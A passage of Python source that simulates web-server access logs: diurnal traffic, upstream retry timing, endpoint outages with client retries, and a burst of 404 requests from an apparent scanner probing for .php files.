            r.upstream = (((addr, r.request_ms - d.below(2)),),)
            return
        if r.status == 504:
            r.upstream = (((addr, 60000 + d.below(5)),),)
        elif r.status == 502 and incident:
            r.upstream = (((incident.failing, d.between(800, 4500)),),)
        elif r.status == 502:
            other = d.pick([a for a in pool if a != addr] or [addr])
            r.upstream = (((addr, d.below(2)), (other, d.below(2))),)
        else:
            ms = self.service_ms(r) * (incident.slowdown if incident else 1)
            attempts: tuple[Attempt, ...] = ((addr, ms),)
            download = r.path.startswith("/downloads/")
            if d.chance(
                0.1 if download else 0.01
            ):  # a peer refused or timed out, the next answered
                first = d.pick([a for a in pool if a != addr] or [addr])
                attempts = ((first, d.pick((0, 1, 3001))), (addr, ms))
            r.upstream = (attempts,)
            if download:  # internal redirect: a second group
                transfer = (r.size or 0) // d.between(1000, 20000)
                r.upstream = (attempts, ((FILES_UPSTREAM, d.between(5, 60) + transfer),))
        r.request_ms = sum(ms for group in r.upstream for _, ms in group) + d.below(3)


# ------------------------------------------------------------------ timelines


@dataclass(frozen=True)
class Window:
    start: int  # Unix seconds, included
    end: int  # excluded
    tz: timezone


def minute_table(window: Window) -> Weighted[int]:
    """Start of each minute of the window, weighted by the diurnal curve."""
    rows = []
    for ts in range(window.start, window.end, 60):
        d = local_time(ts, window.tz)
        weight = HOURLY[d.hour] * (60 - d.minute) + HOURLY[(d.hour + 1) % 24] * d.minute
        rows.append((ts, float(weight)))
    return Weighted(rows)


def traffic(
    dice: Dice, window: Window, mix: Weighted[Callable[[int], list[Request]]], lines: int
) -> list[Request]:
    """Random events at diurnal times until about ``lines`` requests fall in the window."""
    minutes = minute_table(window)
    out: list[Request] = []
    while len(out) < lines:
        ts = minutes.draw(dice) + dice.below(60)
        event = mix.draw(dice)
        out += [r for r in event(ts) if window.start <= r.ts < window.end]
    return out


def every(
    dice: Dice, window: Window, period: int, event: Callable[[int], list[Request]]
) -> list[Request]:
    """A scheduled event (health checks), with a second of jitter."""
    out: list[Request] = []
    for ts in range(window.start + dice.below(period), window.end, period):
        out += event(min(ts + dice.below(2), window.end - 1))
    return out


# ------------------------------------------------------------------ bursts


@dataclass(frozen=True)
class Outage:
    """Requests to one endpoint failing for a few minutes; clients retry."""

    name: str
    start: int
    end: int
    method: str
    path: str
    codes: Weighted[int]
    share: float  # of ordinary requests in the window replaced by a failing one
    per_minute: tuple[int, int]  # extra failing requests each minute (users stuck on it)
    referer: str = ""


def inject_outage(site: Site, records: list[Request], outage: Outage) -> list[Request]:
    """Failures of one endpoint: a share of the window's requests turn into them, a steady
    trickle of users stuck on it adds more, and clients retry."""
    d = site.dice
    failing: list[Request] = []
    for r in records:
        if (
            not (outage.start <= r.ts < outage.end)
            or r.burst
            or r.kind not in ("page", "static", "api", "media")
        ):
            continue
        if r.agent.startswith("ELB") or not d.chance(outage.share):
            continue
        failing.append(r)
    added: list[Request] = []
    for minute in range(outage.start, outage.end, 60):
        for _ in range(d.between(*outage.per_minute)):
            client = site.visitors.draw(d) if d.chance(0.6) else site.apps.draw(d)
            referer = outage.referer if client.agent.startswith("Mozilla") else ""
            added.append(
                site.new_request(minute + d.below(60), client, outage.path, referer=referer)
            )
    for r in failing + added:
        r.method = outage.method
        r.target = outage.path
        if outage.path.startswith("/api/v1/search"):
            r.target = f"{outage.path}?q={d.pick(SEARCHES)}&page=1"
        r.kind, r.burst, r.size, r.user = "api", outage.name, None, ""
        r.protocol = r.protocol if r.protocol != "HTTP/1.0" else "HTTP/1.1"
        r.status = outage.codes.draw(d)
        r.referer = outage.referer if outage.referer and r.referer else r.referer
        site.finish(r)
        t = r.ts
        for _ in range(d.pick((0, 1, 1, 2))):
            t += d.between(2, 8)
            if t >= outage.end:
                break
            again = dataclasses.replace(r, ts=t, status=outage.codes.draw(d), size=None)
            added.append(site.finish(again))
    return records + added


def scanner_burst(site: Site, start: int, end: int, client: str) -> list[Request]:
    """One address requesting random ``*.php`` paths, one to three a second: all 404."""
    d = site.dice
    agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"
    out = []
    for ts in range(start, end):
        for _ in range(d.between(1, 3)):
            name = d.pick(SHELL_NAMES)
            if d.chance(0.3):
                name += str(d.between(1, 99))
            target = f"{d.pick(SHELL_DIRS)}/{name}.php"
            method = "POST" if d.chance(0.15) else "GET"
            r = Request(
                ts=ts,
                client=client,
                agent=agent,
                method=method,
                target=target,
                status=404,
                kind="probe",
                burst="scanner",
            )
            out.append(site.finish(r))
    return out
